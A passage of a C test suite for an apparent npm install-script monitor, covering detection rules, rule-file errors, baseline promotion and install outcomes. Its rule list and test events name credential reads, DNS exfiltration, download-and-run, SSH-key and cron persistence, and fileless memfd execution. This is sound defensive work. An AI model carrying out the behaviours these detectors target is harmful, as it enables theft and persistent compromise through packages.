	ev_exec(14, PKGDIR "/a.out", "./a.out", NULL);
	expect_dropped("./a.out");
}
END_TEST

START_TEST(native_addon_is_loaded_not_run)
{
	npm_unpacks();
	ev_open(13, "ld", true, PKGDIR "/build/Release/obj.target/addon.node", FANGS_OPEN_WRITE);
	ev_open(13, "cp", true, PKGDIR "/build/Release/addon.node", FANGS_OPEN_WRITE);
	/* require() opens it */
	ev_open(11, "node", true, PKGDIR "/build/Release/addon.node", FANGS_OPEN_READ);
	evaluate();
	ck_assert_uint_eq(count_rule("dropped-binary-exec"), 0);
}
END_TEST

START_TEST(fileless)
{
	npm_unpacks();
	ev_exec(12, "/memfd:x (deleted)", "x", NULL);
	ev_exec(13, "/proc/self/fd/3", "/proc/self/fd/3", NULL);
	ev_exec(14, "/dev/fd/4", "y", NULL);
	ev_exec(15, "/proc/4242/task/4243/fd/5", "z", NULL);
	ev_exec(16, "/lib64/ld-linux-x86-64.so.2", "ld.so", "/proc/self/fd/6", NULL);
	/* a program re-running itself by /proc/self/exe is not fileless */
	ev_exec(17, "/proc/self/exe", "node", NULL);
	evaluate();
	expect("fileless-exec", "/memfd:x (deleted): x", FANGS_SEV_CRITICAL);
	expect("fileless-exec", "/proc/self/fd/3", FANGS_SEV_CRITICAL);
	expect("fileless-exec", "/dev/fd/4: y", FANGS_SEV_CRITICAL);
	expect("fileless-exec", "/proc/4242/task/4243/fd/5: z", FANGS_SEV_CRITICAL);
	expect("fileless-exec", "/lib64/ld-linux-x86-64.so.2: ld.so /proc/self/fd/6", FANGS_SEV_CRITICAL);
	ck_assert_uint_eq(count_rule("fileless-exec"), 5);
}
END_TEST

START_TEST(builtin_set)
{
	fangs_rule_info r;
	static const char *const ids[] = {"cred-read-by-script",
					  "script-network-not-registry",
					  "dns-oob-exfil-service",
					  "dns-tunnel-label",
					  "dns-many-subdomains",
					  "download-and-run",
					  "persistence-shell-startup",
					  "persistence-cron-systemd",
					  "persistence-ssh-authorized-keys",
					  "proc-environ-other",
					  "dropped-binary-exec",
					  "fileless-exec",
					  "detached-process",
					  "ptrace-by-script",
					  "mount-by-script",
					  "namespace-by-script",
					  "signal-outside-tree",
					  "kernel-code-load",
					  "perf-event-open",
					  "sensor-blinded"};
	for (size_t i = 0; i < sizeof(ids) / sizeof(ids[0]); i++) {
		ck_assert_msg(fangs_rules_find(rules, ids[i], &r) == 0, "no built-in rule %s", ids[i]);
		ck_assert(r.enabled);
		ck_assert_str_eq(r.source, "builtin");
		ck_assert(r.severity >= FANGS_SEV_MEDIUM);
		ck_assert_ptr_nonnull(r.match);
	}
	ck_assert_ptr_nonnull(strstr(fangs_rules_builtin_yaml(), "id: cred-read-by-script"));
	ck_assert_int_eq(fangs_rules_find(rules, "nope", &r), FANGS_ENOTFOUND);
}
END_TEST

/* ---- the format: errors name the file, the line and the rule ---- */

static void expect_error(const char *yaml, const char *needle)
{
	fangs_rules *rs = NULL;
	fangs_rules_options o = FANGS_RULES_OPTIONS_INIT;
	o.no_builtin = 1;
	ck_assert_int_eq(fangs_rules_new(&rs, &o), 0);
	ck_assert_int_eq(fangs_rules_load_string(rs, yaml, strlen(yaml), "local.yaml"), FANGS_ECONFIG);
	ck_assert_msg(strstr(fangs_error_last(), needle), "'%s' lacks '%s'", fangs_error_last(), needle);
	fangs_rules_free(rs);
}

START_TEST(bad_rules)
{
	expect_error("rules:\n  - id: ok-rule\n    description: fine\n    severity: high\n    match: {kind: exec}\n"
		     "  - id: broken\n    description: x\n    severity: huge\n    match: {kind: exec}\n",
		     "local.yaml:8: rule broken: severity");
	expect_error("rules:\n  - id: r1\n    description: d\n    severity: low\n    match:\n      colour: red\n",
		     "local.yaml:6: rule r1: unknown match key 'colour'");
	expect_error("rules:\n  - id: r2\n    description: d\n    severity: low\n    match:\n      kind: fork\n",
		     "local.yaml:6: rule r2: kind: unknown event kind 'fork'");
	expect_error("rules:\n  - id: r3\n    description: d\n    severity: low\n    match:\n      argv: '(curl'\n",
		     "local.yaml:6: rule r3: argv: bad regular expression");
	expect_error("rules:\n  - description: d\n    severity: low\n    match: {kind: exec}\n",
		     "local.yaml:2: rule #1: no id");
	expect_error("rules:\n  - id: r4\n    severity: low\n    match: {kind: exec}\n", "rule r4: no description");
	expect_error("rules:\n  - id: r5\n    description: d\n    severity: low\n    match: {}\n",
		     "rule r5: match: no conditions");
	expect_error("rules:\n  - id: r6\n    description: d\n    severity: low\n    match: {path: relative/x}\n",
		     "rule r6: path: 'relative/x' must be absolute");
	expect_error(
		"rules:\n  - id: r7\n    description: d\n    severity: low\n    match: {dns_label: {min_length: 9}}\n",
		"rule r7: dns_label and subdomains apply to dns_query events only");
	expect_error("rules:\n  - id: r8\n    description: d\n    severity: low\n    match: {op: ptrace}\n",
		     "rule r8: op and detail apply to syscall events only");
	expect_error("rules:\n  - id: r9\n    description: d\n    severity: low\n    match: {events_lost: true, kind: "
		     "exec}\n",
		     "rule r9: events_lost is a run condition");
	expect_error("rules:\n  - id: r10\n    description: d\n    severity: low\n    match: {events_lost: false}\n",
		     "rule r10: events_lost: only 'true'");
	expect_error("rulez: []\n", "local.yaml:1: unknown key 'rulez'");
	expect_error("rules: [\n", "local.yaml:");
}
END_TEST

START_TEST(user_rule_and_replacement)
{
	fangs_rule_info r;
	static const char yaml[] =
		"rules:\n"
		"  - id: git-over-ssh\n"
		"    description: A lifecycle script ran ssh, under a shell whose parent is the script itself.\n"
		"    severity: medium\n"
		"    match:\n"
		"      kind: exec\n"
		"      exe: /usr/bin/ssh\n"
		"      parent_comm: sh\n"
		"  - id: dropped-binary-exec\n"
		"    description: Replaced by the user.\n"
		"    severity: low\n"
		"    enabled: false\n"
		"    match: {kind: exec, exec_written: true}\n";
	size_t before = fangs_rules_count(rules);
	ck_assert_int_eq(fangs_rules_load_string(rules, yaml, strlen(yaml), "mine.yaml"), 0);
	ck_assert_uint_eq(fangs_rules_count(rules), before + 1);
	ck_assert_int_eq(fangs_rules_find(rules, "dropped-binary-exec", &r), 0);
	ck_assert_str_eq(r.source, "mine.yaml");
	ck_assert(!r.enabled);
	load("hit-dropped-binary.ndjson");
	evaluate();
	ck_assert_uint_eq(count_rule("dropped-binary-exec"), 0);
	ck_assert_int_eq(fangs_rules_find(rules, "git-over-ssh", &r), 0);
	ck_assert_ptr_nonnull(strstr(r.match, "parent_comm: sh"));
}
END_TEST

/* ---- the config's rules: section ---- */

START_TEST(config_section)
{
	char dir[] = "/tmp/fangs-rules-XXXXXX", file[256], cfgtext[1024];
	fangs_config *cfg = NULL;
	fangs_rules *rs = NULL;
	fangs_rules_options o = FANGS_RULES_OPTIONS_INIT;
	fangs_rule_info r;
	FILE *f;

	ck_assert_ptr_nonnull(mkdtemp(dir));
	snprintf(file, sizeof(file), "%s/extra.yaml", dir);
	f = fopen(file, "w");
	ck_assert_ptr_nonnull(f);
	fputs("rules:\n  - id: tmp-exec\n    description: A script ran something from /tmp.\n    severity: high\n"
	      "    match: {kind: exec, actor: script, path: /tmp/*}\n",
	      f);
	fclose(f);
	snprintf(cfgtext, sizeof(cfgtext),
		 "rules:\n"
		 "  files: [%s]\n"
		 "  disable: [dns-many-subdomains]\n"
		 "  severity: {proc-environ-other: low}\n"
		 "  add:\n"
		 "    - id: cron-read\n"
		 "      description: A script read a cron table.\n"
		 "      severity: medium\n"
		 "      match: {kind: file_open, actor: script, path: /etc/crontab}\n"
		 "severity:\n"
		 "  packages:\n"
		 "    pkg: {\"rule:cred-read-by-script\": high}\n",
		 file);
	ck_assert_msg(fangs_config_load_string(&cfg, cfgtext, strlen(cfgtext), "fangs.yaml") == 0, "%s",
		      fangs_error_last());
	ck_assert_uint_eq(cfg->n_rules_inline, 1);
	o.config = cfg;
	ck_assert_msg(fangs_rules_new(&rs, &o) == 0, "%s", fangs_error_last());
	ck_assert_int_eq(fangs_rules_find(rs, "tmp-exec", &r), 0);
	ck_assert_str_eq(r.source, file);
	ck_assert_int_eq(fangs_rules_find(rs, "cron-read", &r), 0);
	ck_assert_str_eq(r.source, "fangs.yaml");
	ck_assert_uint_eq(r.line, 6);
	ck_assert_int_eq(fangs_rules_find(rs, "dns-many-subdomains", &r), 0);
	ck_assert(!r.enabled);

	load("hit-dns-subdomains.ndjson");
	evaluate_with(rs, REGISTRY, -1);
	ck_assert_uint_eq(count_rule("dns-many-subdomains"), 0);
	fangs_event_list_free(&events);
	load("hit-proc-environ.ndjson");
	evaluate_with(rs, REGISTRY, -1);
	ck_assert_int_eq(find("proc-environ-other", NULL)->severity, FANGS_SEV_LOW);
	fangs_event_list_free(&events);
	load("hit-cred-read.ndjson");
	evaluate_with(rs, REGISTRY, -1);
	ck_assert_int_eq(find("cred-read-by-script", NULL)->severity, FANGS_SEV_HIGH); /* package override */
	fangs_event_list_free(&events);
	load("hit-dropped-binary.ndjson");
	evaluate_with(rs, REGISTRY, -1);
	ck_assert_ptr_nonnull(find("tmp-exec", "/tmp/.npm-helper"));
	fangs_rules_free(rs);
	fangs_config_free(cfg);

	/* a bad inline rule stops the config load with its line */
	snprintf(cfgtext, sizeof(cfgtext),
		 "rules:\n  add:\n    - id: x\n      description: d\n"
		 "      severity: loud\n      match: {kind: exec}\n");
	ck_assert_int_eq(fangs_config_load_string(&cfg, cfgtext, strlen(cfgtext), "bad.yaml"), FANGS_ECONFIG);
	ck_assert_ptr_nonnull(strstr(fangs_error_last(), "bad.yaml:5: rule x: severity"));
	/* disabling a rule that does not exist is a mistake worth hearing about */
	snprintf(cfgtext, sizeof(cfgtext), "rules: {disable: [no-such-rule]}\n");
	ck_assert_int_eq(fangs_config_load_string(&cfg, cfgtext, strlen(cfgtext), "c.yaml"), 0);
	o.config = cfg;
	ck_assert_int_eq(fangs_rules_new(&rs, &o), FANGS_ECONFIG);
	ck_assert_ptr_nonnull(strstr(fangs_error_last(), "no-such-rule"));
	fangs_config_free(cfg);
	/* a missing rule file is named */
	snprintf(cfgtext, sizeof(cfgtext), "rules: {files: [/nonexistent/r.yaml]}\n");
	ck_assert_int_eq(fangs_config_load_string(&cfg, cfgtext, strlen(cfgtext), "c.yaml"), 0);
	o.config = cfg;
	ck_assert_int_eq(fangs_rules_new(&rs, &o), FANGS_ECONFIG);
	ck_assert_ptr_nonnull(strstr(fangs_error_last(), "/nonexistent/r.yaml"));
	fangs_config_free(cfg);
	unlink(file);
	rmdir(dir);
}
END_TEST

/* ---- the baseline policy in fangs_analyze_run ---- */

static char dbdir[64];
static fangs_storage *st;

static void db_setup(void)
{
	fangs_storage_options so = FANGS_STORAGE_OPTIONS_INIT;
	char path[128];
	setup();
	snprintf(dbdir, sizeof(dbdir), "/tmp/fangs-rules-db-XXXXXX");
	ck_assert_ptr_nonnull(mkdtemp(dbdir));
	snprintf(path, sizeof(path), "%s/f.db", dbdir);
	so.backend = "sqlite";
	so.sqlite_path = path;
	ck_assert_int_eq(fangs_storage_open(&st, &so), 0);
}

static void db_teardown(void)
{
	char cmd[128];
	fangs_storage_free(st);
	snprintf(cmd, sizeof(cmd), "rm -rf %s", dbdir);
	ck_assert_int_eq(system(cmd), 0);
	teardown();
}

static char last_run[FANGS_RUN_ID_MAX]; /* the id of the run import_as() stored */

/* Stores a recording (NULL: `events` as they are) as a run of package@version
 * in `state` and judges it. */
static fangs_baseline_action import_as(const char *fixture, const char *package, const char *version,
				       fangs_run_state state, const fangs_config *cfg, fangs_analysis *an)
{
	fangs_run run = {0};
	fangs_differ *d = NULL;
	fangs_differ_options dopts = FANGS_DIFFER_OPTIONS_INIT;
	fangs_analyze_options ao = FANGS_ANALYZE_OPTIONS_INIT;
	if (fixture) {
		fangs_event_list_free(&events);
		load(fixture);
	}
	for (size_t i = 0; i < events.count; i++)
		events.items[i].id = 0;
	run.package = (char *)package;
	run.version = (char *)version;
	run.state = state;
	run.sandbox = (char *)"import";
	if (state != FANGS_RUN_SUCCEEDED) {
		run.has_exit_code = 1;
		run.exit_code = 1;
		run.error = (char *)"npm exited with status 1: npm error command failed";
	}
	ck_assert_int_eq(fangs_storage_run_create(st, &run), 0);
	memcpy(last_run, run.id, sizeof(last_run));
	ck_assert_int_eq(fangs_storage_events_append(st, run.id, events.items, events.count), 0);
	dopts.config = cfg;
	ck_assert_int_eq(fangs_differ_new(&d, &dopts), 0);
	ao.registry_host = REGISTRY;
	ck_assert_msg(fangs_analyze_run_opts(st, d, cfg, run.id, &ao, an) == 0, "%s", fangs_error_last());
	fangs_differ_free(d);
	return an->action;
}

static fangs_baseline_action import_run(const char *fixture, const char *package, const fangs_config *cfg,
					fangs_analysis *an)
{
	return import_as(fixture, package, "1.0.0", FANGS_RUN_SUCCEEDED, cfg, an);
}

/* Stores `events` as a finished run of `package` and judges it. */
static fangs_baseline_action import_events(const char *package, const fangs_config *cfg, fangs_analysis *an)
{
	return import_as(NULL, package, "1.0.0", FANGS_RUN_SUCCEEDED, cfg, an);
}

/* npm unpacking `n` files of modkit (and reading ~/.npmrc, as it does). */
static void npm_unpacks_modkit(size_t n)
{
	fangs_event *ev;
	fangs_event_list_free(&events);
	for (size_t i = 0; i <= n; i++) {
		char path[128];
		if (i == 0)
			snprintf(path, sizeof(path), "/root/.npmrc");
		else
			snprintf(path, sizeof(path), "/root/app/node_modules/modkit/lib/m%zu.js", i);
		ck_assert_ptr_nonnull(ev = fangs_event_list_push(&events));
		ev->kind = FANGS_EV_FILE_OPEN;
		ev->ts_ns = (int64_t)i + 1;
		ev->pid = 7000;
		ev->ppid = 6999;
		ck_assert_ptr_nonnull(ev->path = strdup(path));
		ev->flags = i ? FANGS_OPEN_WRITE : FANGS_OPEN_READ;
	}
}

START_TEST(first_run_with_hit_waits)
{
	fangs_analysis an = {0};
	fangs_deviation_list stored = {0};
	fangs_deviation_filter df = FANGS_DEVIATION_FILTER_INIT;
	fangs_package pkg = {0};

	ck_assert_int_eq(import_run("hit-cred-read.ndjson", "cred-thief", NULL, &an), FANGS_BASELINE_PENDING);
	ck_assert_uint_eq(an.deviations.count, 2);
	ck_assert_str_eq(an.deviations.items[0].kind, "rule:cred-read-by-script");
	ck_assert_uint_gt(an.deviations.items[0].id, 0);
	/* stored with the deviations, evidence pointing at stored events */
	df.package = "cred-thief";
	ck_assert_int_eq(fangs_storage_deviations_list(st, &df, &stored), 0);
	ck_assert_uint_eq(stored.count, 2);
	ck_assert_ptr_nonnull(stored.items[0].description);
	ck_assert_uint_ge(stored.items[0].n_evidence, 1);
	ck_assert_int_eq(fangs_storage_package_get(st, "cred-thief", &pkg), 0);
	ck_assert_int_eq(pkg.baseline_size, 0); /* nothing was seeded */
	fangs_package_clear(&pkg);
	fangs_deviation_list_free(&stored);
	fangs_analysis_clear(&an);

	/* an ordinary first run still seeds */
	ck_assert_int_eq(import_run("benign-node-gyp.ndjson", "native-addon", NULL, &an), FANGS_BASELINE_SEEDED);
	ck_assert_uint_eq(an.deviations.count, 0);
	fangs_analysis_clear(&an);
}
END_TEST

START_TEST(low_hits_do_not_hold)
{
	fangs_analysis an = {0};
	fangs_config *cfg = NULL;
	static const char y[] = "rules:\n  severity: {proc-environ-other: low}\n";
	ck_assert_int_eq(fangs_config_load_string(&cfg, y, strlen(y), "c.yaml"), 0);
	ck_assert_int_eq(import_run("hit-proc-environ.ndjson", "env-peek", cfg, &an), FANGS_BASELINE_SEEDED);
	ck_assert_uint_eq(an.deviations.count, 1);
	ck_assert_int_eq(an.deviations.items[0].severity, FANGS_SEV_LOW);
	fangs_analysis_clear(&an);
	fangs_config_free(cfg);
}
END_TEST

/* A release's new files are an info summary: it holds no run and ends no
 * clean streak (K = 2 here, so a streak is what makes a run join). */
START_TEST(content_does_not_hold)
{
	fangs_analysis an = {0};
	fangs_config *cfg = NULL;
	static const char y[] = "differ:\n  promote_after_clean_runs: 2\n";
	ck_assert_int_eq(fangs_config_load_string(&cfg, y, strlen(y), "c.yaml"), 0);
	npm_unpacks_modkit(2);
	ck_assert_int_eq(import_events("modkit", cfg, &an), FANGS_BASELINE_PENDING); /* 1 of 2 */
	fangs_analysis_clear(&an);
	npm_unpacks_modkit(5);
	ck_assert_int_eq(import_events("modkit", cfg, &an), FANGS_BASELINE_SEEDED);
	ck_assert_uint_eq(an.deviations.count, 1);
	ck_assert_str_eq(an.deviations.items[0].kind, "content_changed");
	ck_assert_int_eq(an.deviations.items[0].severity, FANGS_SEV_INFO);
	fangs_analysis_clear(&an);
	/* the seeding run has a stored (info) finding; the streak goes on */
	npm_unpacks_modkit(7);
	ck_assert_int_eq(import_events("modkit", cfg, &an), FANGS_BASELINE_JOINED);
	ck_assert_uint_eq(an.deviations.count, 1);
	ck_assert_str_eq(an.deviations.items[0].description, "2 files added\n+ lib/m6.js\n+ lib/m7.js");
	fangs_analysis_clear(&an);
	fangs_config_free(cfg);
}
END_TEST

static int64_t baseline_size(const char *package)
{
	fangs_package pkg = {0};
	int64_t n;
	ck_assert_int_eq(fangs_storage_package_get(st, package, &pkg), 0);
	n = pkg.baseline_size;
	fangs_package_clear(&pkg);
	return n;
}

static fangs_run get_run(const char *id)
{
	fangs_run r = {0};
	ck_assert_int_eq(fangs_storage_run_get(st, id, &r), 0);
	return r;
}

static const fangs_deviation *find_kind(const fangs_deviation_list *l, const char *kind)
{
	for (size_t i = 0; i < l->count; i++)
		if (!strcmp(l->items[i].kind, kind))
			return &l->items[i];
	return NULL;
}

START_TEST(failed_install_stays_out_of_the_baseline)
{
	fangs_analysis an = {0};
	fangs_run r;
	char failed[FANGS_RUN_ID_MAX], timed_out[FANGS_RUN_ID_MAX];
	size_t n_failed;
	int64_t seeded;

	/* a first run that failed seeds nothing: the next good run does */
	ck_assert_int_eq(import_as("benign-esbuild.ndjson", "tool", "0.9.0", FANGS_RUN_FAILED, NULL, &an),
			 FANGS_BASELINE_EXCLUDED);
	fangs_analysis_clear(&an);
	ck_assert_int_eq(baseline_size("tool"), 0);
	ck_assert_int_eq(import_as("benign-node-gyp.ndjson", "tool", "1.0.0", FANGS_RUN_SUCCEEDED, NULL, &an),
			 FANGS_BASELINE_SEEDED);
	fangs_analysis_clear(&an);
	seeded = baseline_size("tool");
	ck_assert_int_gt(seeded, 0);

	/* a failed release that does something new: judged (its deviations and
	 * rule hits are stored), but it neither joins nor seeds */
	ck_assert_int_eq(import_as("hit-cred-read.ndjson", "tool", "1.1.0", FANGS_RUN_FAILED, NULL, &an),
			 FANGS_BASELINE_EXCLUDED);
	memcpy(failed, last_run, sizeof(failed));
	ck_assert_ptr_nonnull(find_kind(&an.deviations, "rule:cred-read-by-script"));
	ck_assert_ptr_nonnull(find_kind(&an.deviations, "fs_cred_read"));
	n_failed = an.deviations.count;
	fangs_analysis_clear(&an);
	r = get_run(failed);
	ck_assert_int_eq(r.state, FANGS_RUN_FAILED);
	ck_assert_int_eq(r.is_baseline, 0);
	ck_assert_int_eq(r.review, FANGS_REVIEW_PENDING); /* a person should see what it did */
	ck_assert_int_eq(r.deviation_count, (int64_t)n_failed);
	fangs_run_clear(&r);
	ck_assert_int_eq(baseline_size("tool"), seeded);

	/* timed out: the same */
	ck_assert_int_eq(import_as("hit-cred-read.ndjson", "tool", "1.1.1", FANGS_RUN_TIMED_OUT, NULL, &an),
			 FANGS_BASELINE_EXCLUDED);
	memcpy(timed_out, last_run, sizeof(timed_out));
	ck_assert_uint_eq(an.deviations.count, n_failed);
	fangs_analysis_clear(&an);
	ck_assert_int_eq(baseline_size("tool"), seeded);

	/* the next release doing it for good is compared with the good baseline */
	ck_assert_int_eq(import_as("hit-cred-read.ndjson", "tool", "1.2.0", FANGS_RUN_SUCCEEDED, NULL, &an),
			 FANGS_BASELINE_PENDING);
	ck_assert_uint_eq(an.deviations.count, n_failed);
	fangs_analysis_clear(&an);

	/* a person cannot promote a failed install by mistake */
	ck_assert_int_eq(fangs_baseline_promote(st, failed, 0), FANGS_EINVAL);
	ck_assert_ptr_nonnull(strstr(fangs_error_last(), "npm exited with status 1"));
	ck_assert_int_eq(baseline_size("tool"), seeded);
	ck_assert_int_eq(fangs_baseline_promote(st, timed_out, FANGS_PROMOTE_UNFINISHED), 0);
	ck_assert_int_gt(baseline_size("tool"), seeded);
	r = get_run(timed_out);
	ck_assert_int_eq(r.is_baseline, 1);
	ck_assert_int_eq(r.review, FANGS_REVIEW_PROMOTED);
	ck_assert_int_eq(r.deviation_count, 0);
	fangs_run_clear(&r);
}
END_TEST

START_TEST(findings_below_the_review_threshold_join)
{
	fangs_analysis an = {0};
	fangs_config *lenient = NULL, *strict = NULL;
	static const char yl[] = "differ:\n  review_threshold: critical\n";
	static const char ys[] = "differ:\n  review_threshold: info\n";
	fangs_severity worst;
	int64_t seeded;
	fangs_run r;

	ck_assert_int_eq(fangs_config_load_string(&lenient, yl, strlen(yl), "l.yaml"), 0);
	ck_assert_int_eq(lenient->review_threshold, FANGS_SEV_CRITICAL);
	ck_assert_int_eq(fangs_config_load_string(&strict, ys, strlen(ys), "s.yaml"), 0);

	ck_assert_int_eq(import_as("benign-node-gyp.ndjson", "lib", "1.0.0", FANGS_RUN_SUCCEEDED, lenient, &an),
			 FANGS_BASELINE_SEEDED);
	fangs_analysis_clear(&an);
	seeded = baseline_size("lib");
	/* another tool's install deviates, below critical: it joins, its
	 * deviations are stored and shown */
	ck_assert_int_eq(import_as("benign-esbuild.ndjson", "lib", "1.1.0", FANGS_RUN_SUCCEEDED, lenient, &an),
			 FANGS_BASELINE_JOINED);
	ck_assert_uint_gt(an.deviations.count, 0);
	worst = fangs_deviation_list_max_severity(&an.deviations);
	ck_assert_int_lt(worst, FANGS_SEV_CRITICAL);
	r = get_run(last_run);
	ck_assert_int_eq(r.is_baseline, 1);
	ck_assert_int_eq(r.review, FANGS_REVIEW_NONE);
	ck_assert_int_eq(r.deviation_count, (int64_t)an.deviations.count);
	fangs_run_clear(&r);
	fangs_analysis_clear(&an);
	ck_assert_int_gt(baseline_size("lib"), seeded);

	/* the same release with every finding held for review */
	ck_assert_int_eq(import_as("benign-node-gyp.ndjson", "lib2", "1.0.0", FANGS_RUN_SUCCEEDED, strict, &an),
			 FANGS_BASELINE_SEEDED);
	fangs_analysis_clear(&an);
	ck_assert_int_eq(import_as("benign-esbuild.ndjson", "lib2", "1.1.0", FANGS_RUN_SUCCEEDED, strict, &an),
			 FANGS_BASELINE_PENDING);
	fangs_analysis_clear(&an);
	fangs_config_free(lenient);
	fangs_config_free(strict);
}
END_TEST

START_TEST(promote_adds_to_the_baseline)
{
	fangs_analysis an = {0};
	fangs_fpset *want = NULL, *got = NULL;
	char seed[FANGS_RUN_ID_MAX], a[FANGS_RUN_ID_MAX], b[FANGS_RUN_ID_MAX];
	fangs_run r;

	ck_assert_int_eq(import_as("benign-node-gyp.ndjson", "pkg", "1.0.0", FANGS_RUN_SUCCEEDED, NULL, &an),
			 FANGS_BASELINE_SEEDED);
	memcpy(seed, last_run, sizeof(seed));
	fangs_analysis_clear(&an);
	ck_assert_int_eq(import_as("hit-cred-read.ndjson", "pkg", "1.1.0", FANGS_RUN_SUCCEEDED, NULL, &an),
			 FANGS_BASELINE_PENDING);
	memcpy(a, last_run, sizeof(a));
	fangs_analysis_clear(&an);
	ck_assert_int_eq(import_as("hit-network.ndjson", "pkg", "1.2.0", FANGS_RUN_SUCCEEDED, NULL, &an),
			 FANGS_BASELINE_PENDING);
	memcpy(b, last_run, sizeof(b));
	fangs_analysis_clear(&an);

	/* two promotes: the baseline is the union of the three runs */
	ck_assert_int_eq(fangs_baseline_promote(st, a, 0), 0);
	ck_assert_int_eq(fangs_baseline_promote(st, b, 0), 0);
	ck_assert_int_eq(fangs_fpset_new(&want), 0);
	ck_assert_int_eq(fangs_fpset_new(&got), 0);
	ck_assert_int_eq(fangs_storage_run_fingerprints_get(st, seed, want), 0);
	ck_assert_int_eq(fangs_storage_run_fingerprints_get(st, a, want), 0);
	ck_assert_int_eq(fangs_storage_run_fingerprints_get(st, b, want), 0);
	ck_assert_int_eq(fangs_storage_baseline_get(st, "pkg", got), 0);
	ck_assert_uint_eq(fangs_fpset_size(got), fangs_fpset_size(want));
	ck_assert_int_eq(baseline_size("pkg"), (int64_t)fangs_fpset_size(want));
	r = get_run(seed);
	ck_assert_int_eq(r.is_baseline, 1);
	fangs_run_clear(&r);
	r = get_run(a);
	ck_assert_int_eq(r.is_baseline, 1);
	ck_assert_int_eq(r.review, FANGS_REVIEW_PROMOTED);
	ck_assert_int_eq(r.deviation_count, 0);
	fangs_run_clear(&r);

	/* what they did is the normal now */
	ck_assert_int_eq(import_as("hit-cred-read.ndjson", "pkg", "1.3.0", FANGS_RUN_SUCCEEDED, NULL, &an),
			 FANGS_BASELINE_JOINED);
	ck_assert_uint_eq(an.deviations.count, 0);
	fangs_analysis_clear(&an);

	/* --replace: the baseline is that run alone */
	ck_assert_int_eq(fangs_baseline_promote(st, b, FANGS_PROMOTE_REPLACE), 0);
	fangs_fpset_free(want);
	ck_assert_int_eq(fangs_fpset_new(&want), 0);
	ck_assert_int_eq(fangs_storage_run_fingerprints_get(st, b, want), 0);
	ck_assert_int_eq(baseline_size("pkg"), (int64_t)fangs_fpset_size(want));
	r = get_run(a);
	ck_assert_int_eq(r.is_baseline, 0);
	fangs_run_clear(&r);

	ck_assert_int_eq(fangs_baseline_promote(st, "r-none", 0), FANGS_ENOTFOUND);
	ck_assert_int_eq(fangs_baseline_promote(st, b, 8), FANGS_EINVAL);
	fangs_fpset_free(want);
	fangs_fpset_free(got);
}
END_TEST

START_TEST(auto_baseline_does_not_hide_rule_hits)
{
	fangs_analysis an = {0};
	fangs_config *quiet = NULL;
	static const char y[] = "rules:\n  severity: {detached-process: low}\n";
	const fangs_deviation *hit;

	/* the detached process is in the baseline, taken in by itself (its hit
	 * was low then: it held nothing) */
	ck_assert_int_eq(fangs_config_load_string(&quiet, y, strlen(y), "q.yaml"), 0);
	ck_assert_int_eq(import_as("hit-detached.ndjson", "daemon", "1.0.0", FANGS_RUN_SUCCEEDED, quiet, &an),
			 FANGS_BASELINE_SEEDED);
	ck_assert_ptr_nonnull(find_kind(&an.deviations, "rule:detached-process"));
	fangs_analysis_clear(&an);
	fangs_config_free(quiet);

	/* warm: the differ has nothing new, the rule still says it */
	ck_assert_int_eq(import_as("hit-detached.ndjson", "daemon", "1.0.1", FANGS_RUN_SUCCEEDED, NULL, &an),
			 FANGS_BASELINE_PENDING);
	hit = find_kind(&an.deviations, "rule:detached-process");
	ck_assert_ptr_nonnull(hit);
	ck_assert_int_eq(hit->severity, FANGS_SEV_HIGH);
	for (size_t i = 0; i < an.deviations.count; i++)
		ck_assert_msg(fangs_deviation_is_rule(&an.deviations.items[i]), "differ: %s %s",
			      an.deviations.items[i].kind, an.deviations.items[i].value);
	fangs_analysis_clear(&an);

	/* once a person accepted it, it is not reported again */
	ck_assert_int_eq(fangs_baseline_promote(st, last_run, 0), 0);
	ck_assert_int_eq(import_as("hit-detached.ndjson", "daemon", "1.0.2", FANGS_RUN_SUCCEEDED, NULL, &an),
			 FANGS_BASELINE_JOINED);
	ck_assert_uint_eq(an.deviations.count, 0);
	fangs_analysis_clear(&an);
}
END_TEST

/* ---- how an install ended (scan/outcome.c) ---- */

static fangs_run_state outcome(fangs_sandbox_result *r, const char *output, char *why, size_t cap)
{
	r->output = (char *)output;
	return fangs__install_outcome(r, why, cap);
}

START_TEST(install_outcomes)
{
	static const char npm_failed[] =
		"relay: no C compiler found for Linux\n"
		"relay: cannot build the native addon\n"
		"npm error code 1\n"
		"npm error path /root/app/node_modules/relay\n\n"
		"npm error command failed\n"
		"npm error command sh -c node preinstall.js\n"
		"npm error A complete log of this run can be found in: /root/.npm/_logs/x.log\n";
	fangs_sandbox_result r;
	char why[600];

	memset(&r, 0, sizeof(r));
	r.exited = 1;
	ck_assert_int_eq(outcome(&r, "added 1 package\n", why, sizeof(why)), FANGS_RUN_SUCCEEDED);
	ck_assert_str_eq(why, "");

	r.exit_code = 1;
	ck_assert_int_eq(outcome(&r, npm_failed, why, sizeof(why)), FANGS_RUN_FAILED);
	ck_assert_str_eq(why, "npm exited with status 1: relay: cannot build the native addon | npm error code 1 | "
			      "npm error path /root/app/node_modules/relay | npm error command failed | "
			      "npm error command sh -c node preinstall.js");
	/* a short buffer cuts, and stays a string */
	ck_assert_int_eq(outcome(&r, npm_failed, why, 40), FANGS_RUN_FAILED);
	ck_assert_uint_eq(strlen(why), 39);
	ck_assert_int_eq(outcome(&r, "", why, sizeof(why)), FANGS_RUN_FAILED);
	ck_assert_str_eq(why, "npm exited with status 1");

	/* a script killed by the memory limit; npm passes its status on */
	r.exit_code = 137;
	r.oom_kills = 1;
	ck_assert_int_eq(outcome(&r, "Killed\nnpm error code 137\n", why, sizeof(why)), FANGS_RUN_FAILED);
	ck_assert_str_eq(why, "npm exited with status 137 after the out-of-memory killer ended 1 process "
			      "(memory limit 512 MiB): Killed | npm error code 137");
	/* npm itself killed */
	r.term_signal = 9;
	ck_assert_int_eq(outcome(&r, NULL, why, sizeof(why)), FANGS_RUN_FAILED);
	ck_assert_str_eq(why, "install killed by the out-of-memory killer (memory limit 512 MiB)");
	r.oom_kills = 0;
	r.term_signal = 15;
	r.exit_code = 143;
	ck_assert_int_eq(outcome(&r, NULL, why, sizeof(why)), FANGS_RUN_FAILED);
	ck_assert_str_eq(why, "npm killed by signal 15 (Terminated)");

	/* timeouts stay timeouts */
	memset(&r, 0, sizeof(r));
	r.exit_code = -1;
	r.timed_out = 1;
	ck_assert_int_eq(outcome(&r, "", why, sizeof(why)), FANGS_RUN_TIMED_OUT);
	ck_assert_str_eq(why, "the install was still running at the duration limit: killed");
	r.exited = 1;
	r.exit_code = 0;
	r.processes_left = 2;
	ck_assert_int_eq(outcome(&r, "", why, sizeof(why)), FANGS_RUN_TIMED_OUT);
